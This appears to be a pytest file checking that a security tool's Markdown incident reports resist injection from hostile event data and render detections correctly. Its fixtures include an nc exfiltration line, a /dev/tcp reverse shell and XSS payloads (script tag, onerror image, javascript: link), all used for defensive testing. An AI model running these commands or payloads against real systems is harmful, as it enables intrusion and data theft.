"""A story's incident report in Markdown: exact content, and a structure that hostile
event data (backticks, pipes, newlines, HTML, Markdown) cannot break.

The report is parsed with a CommonMark parser (markdown-it-py, with GFM tables and
strikethrough, and raw HTML on so that any injected tag would show as one).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import httpx2 as httpx
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.ingest import ingest
from app.investigation import stories as story_logic
from app.investigation.evidence import gather
from app.investigation.report import render_report
from app.investigation.stories import story_id
from app.neo4j.database import Database, Target
from tests.api.test_actions import jvm_story
from tests.conftest import target_env
from tests.server import serve, storyline_command
from tests.test_layers import P, uuid

HOSTILE = (
    "echo `id` | nc 203.0.113.66 4444\n## Injected heading\n<img src=x onerror=alert(1)> "
    "[click](javascript:alert(1)) **bold** _x_ ~~gone~~ $x$ &amp; | col | \\| ```"
)
SHA = "sha256:" + "ab" * 32


def parse(text: str) -> list[Token]:
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return parser.parse(text)


def flat(tokens: list[Token]) -> list[Token]:
    out = []
    for t in tokens:
        out.append(t)
        out += flat(t.children or [])
    return out


def headings(tokens: list[Token]) -> list[tuple[str, str]]:
    found = []
    for i, t in enumerate(tokens):
        if t.type == "heading_open":
            found.append((t.tag, tokens[i + 1].content))
    return found


def table_rows(text: str) -> list[tuple[int, str]]:
    """(unescaped pipes, line) for every table line."""
    return [(len(re.findall(r"(?<!\\)\|", line)), line) for line in text.splitlines()
            if line.startswith("|")]  # fmt: skip


def hostile_story(db: Database) -> str:
    """A JVM whose shell runs a command line full of Markdown, HTML and line breaks."""
    java = P("node-9", 900, 0, "/usr/bin/java", ["java", "-jar", "/opt/app.jar"],
             attrs={"cgroup": "/system.slice/app.service", "user": "svc|`x`"})  # fmt: skip
    sh = java.child(9001, 30, "/bin/sh", ["sh", "-c", HOSTILE], user="www\n# data")
    opened = sh.event("file_open", file={"path": "/tmp/a|b`c\n# h <b>x</b>", "hashes": [SHA]})
    resolved = sh.event("dns_query", dns={"name": "evil|`x`.example.com"})
    connect = sh.event("network_connect", network={"dst_ip": "203.0.113.66", "dst_port": 4444})
    alert = sh.event("alert", alert={
        "rule_id": "sensor.odd|rule", "title": "Alert | `ticks`\n# heading <script>x</script>",
        "severity": "high", "tactic": "made|up\n## tactic", "on_event": opened["id"],
    })  # fmt: skip
    events = [java.exec(), sh.exec(), opened, resolved, connect, alert]
    ingest(db, "storyline", [json.dumps(e) + "\n" for e in events])
    story = story_id(uuid(sh, "exploit"))
    story_logic.record(db, story, "note", "see | `this`\n# not a heading", "ana|lyst")
    story_logic.record(db, story, "status", "under_review", "bob", "<b>on it</b>")
    return story


def report_of(db: Database, story: str) -> str:
    evidence = gather(db, story)
    assert evidence is not None
    return render_report(evidence)


def test_hostile_event_data_cannot_break_the_reports_structure(db: Database) -> None:
    text = report_of(db, hostile_story(db))
    tokens = parse(text)
    everything = flat(tokens)
    # no HTML, link, image, emphasis or heading came from the data
    kinds = {t.type for t in everything}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "em_open", "s_open"}
    assert headings(tokens) == [
        ("h1", "Incident report: Shell spawned by a Java process on node-9 (+2 more rules)"),
        ("h2", "What happened, by tactic"),
        ("h3", "Execution (TA0002)"),
        ("h3", "Command and Control (TA0011)"),
        ("h3", "Without an ATT&CK tactic"),
        ("h2", "Key processes"),
        ("h2", "Indicators"),
        ("h3", "Addresses"), ("h3", "Domains"), ("h3", "File hashes"), ("h3", "Access keys"),
        ("h2", "Response actions"),
        ("h3", "Approved"), ("h3", "Recommended, not approved"),
        ("h2", "Triage history"),
    ]  # fmt: skip
    # every row of every table has as many cells as its header
    tables = [
        [pipes for pipes, _ in table_rows(block)] for block in text.split("\n\n")
        if block.startswith("|")
    ]  # fmt: skip
    assert len(tables) == 6 and all(len(set(t)) == 1 for t in tables), tables
    # the parser sees the same: every body row of a table has the header's cells
    cells = [t.type for t in everything if t.type in ("tr_open", "th_open", "td_open")]
    assert cells.count("tr_open") == sum(len(t) - 1 for t in tables)
    # strong text is ours only: one per narrative line
    narrative = [ln for ln in text.splitlines() if ln.startswith("- 2026")]
    assert sum(t.type == "strong_open" for t in everything) == len(narrative) == 3
    # a line break in the data is a visible mark, never a new line
    assert "\n## Injected" not in text and "\n# heading" not in text
    assert all(not ln.startswith(("#", "<")) or ln.startswith(("# Incident", "## ", "### "))
               for ln in text.splitlines())  # fmt: skip
    # the argv reads back exactly from its code spans: in the narrative (three signals),
    # the facts' context and the processes' table
    shown = "sh -c " + HOSTILE.replace("\n", " ␤ ")
    spans = [t.content for t in everything if t.type == "code_inline"]
    assert spans.count(shown) == 5, spans
    # the alert's title reads back as text, markup and all
    inline = [t.content for t in everything if t.type == "text"]
    assert "Alert | `ticks` ␤ # heading <script>x</script>" in " ".join(inline)


def test_the_report_says_what_happened(db: Database) -> None:
    story = jvm_story(db)
    text = report_of(db, story)
    lines = text.splitlines()
    assert lines[0] == "# Incident report: Reverse shell through /dev/tcp on node-3 (+5 more rules)"
    assert f"| Story | `{story}` |" in lines
    assert "| Status | open |" in lines and "| Hosts | node-3 |" in lines
    assert (
        "| Signals | 6 |" in lines
        and "| ATT&CK techniques | T1059.004, T1087.001, T1571 |" in lines
    )
    # the narrative follows the kill chain: execution, discovery, command and control
    assert [ln for ln in lines if ln.startswith("### ")][:3] == [
        "### Execution (TA0002)", "### Discovery (TA0007)", "### Command and Control (TA0011)",
    ]  # fmt: skip
    assert (
        "- 2026-01-05 08:00:30.000Z: **Shell spawned by a Java process** (high, "
        "`linux.shell_from_jvm`, T1059.004) on node-3, pid 4000 "
        "`sh -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`: exec sh -c bash -i \\>\\& "
        "/dev/tcp/198.51.100.9/4444 0\\>\\&1"
    ) in lines
    assert (
        "- 2026-01-05 08:00:31.000Z: **Account discovery outside a login session** (low, "
        "`linux.account_discovery`, T1087.001) on node-3, pid 4002 `id`: exec id"
    ) in lines
    # key processes: the context root, then each flagged process with the rules on it
    argv = "`sh -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`"
    assert (
        f"| 4000 | node-3 | - | 2026-01-05 08:00:30.000Z | {argv} | context root, "
        "`linux.reverse_shell_dev_tcp`, `linux.shell_from_jvm`, `sensor.shell_from_jvm` |"
    ) in lines
    assert (
        "| 4001 | node-3 | - | 2026-01-05 08:00:30.000Z | `bash -i` | "
        "`linux.interactive_shell_without_tty`, `linux.reverse_shell_port` |"
    ) in lines
    # indicators from the story's events
    assert "| `198.51.100.9` | outbound | 4444 | 1 | 2026-01-05 08:00:30.000Z |" in lines
    indicators = text.split("## Indicators")[1].split("## Response actions")[0]
    assert indicators.count("None seen.") == 3  # no domain, hash or access key
    assert "None approved." in lines
    assert "- BLOCK\\_EGRESS: Block 198.51.100.9:4444 at the egress firewall" in lines
    assert sum(ln.startswith("- KILL\\_PROCESS: ") for ln in lines) == 2
    assert lines[-1] == f"Generated by Storyline 0.1.0 from story `{story}`."
    assert "No triage yet." in lines


def test_the_report_lists_approvals_and_triage(db: Database) -> None:
    story = jvm_story(db)
    story_logic.record(db, story, "assignee", "alice", "ana", "mine")
    [found] = db.query("MATCH (s:Story {id: $id}) RETURN s.response_actions AS a", {"id": story})[1]
    [action] = [a for a in map(json.loads, found["a"]) if a["type"] == "BLOCK_EGRESS"]
    approval = f"approval:{story}:{action['id']}"
    db.run(
        "actions/claim_approval", story=story, id=approval, action_id=action["id"],
        type=action["type"], target=json.dumps(action["target"]), text=action["text"],
        actor="ana", comment="C2", now="2026-01-05T09:00:00Z", lease=20,
    )  # fmt: skip
    db.run("actions/record_delivery", id=approval, delivery="delivered", code=202, error=None,
           now="2026-01-05T09:00:01Z")  # fmt: skip
    lines = report_of(db, story).splitlines()
    assert (
        "| 2026-01-05 09:00:00.000Z | ana | BLOCK\\_EGRESS | Block 198.51.100.9:4444 at the "
        "egress firewall | address: ip `198.51.100.9`, port `4444` | C2 | delivered (HTTP 202) |"
    ) in lines
    assert not any(ln.startswith("- BLOCK\\_EGRESS") for ln in lines)  # approved, not waiting
    assert "| Status | open, assigned to alice |" in lines
    assert any(ln.endswith("| ana | assignee: - → alice | mine |") for ln in lines)


def test_the_report_over_rest_graphql_and_the_cli(
    db: Database, neo4j_target: Target, tmp_path: Path
) -> None:
    story = jvm_story(db)
    expected = report_of(db, story)
    with serve(neo4j_target, tmp_path) as server:
        answer = httpx.get(f"{server.url}/api/v1/stories/{story}/report.md", timeout=60)
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "text/markdown; charset=utf-8"
        assert answer.headers["content-disposition"] == (
            f'attachment; filename="story-{story[:8]}.md"'
        )
        assert answer.text == expected
        assert (
            httpx.get(f"{server.url}/api/v1/stories/nope/report.md", timeout=60).status_code == 404
        )
        query = {
            "query": "query($id: ID!) { story(id: $id) { report } }",
            "variables": {"id": story},
        }
        body = httpx.post(f"{server.url}/graphql", json=query, timeout=60).json()
        assert body["data"]["story"]["report"] == expected
    cli = subprocess.run(
        [*storyline_command(), "story", story[:8], "--report"],
        env={**os.environ, **target_env(neo4j_target)},
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    assert cli.stdout == expected
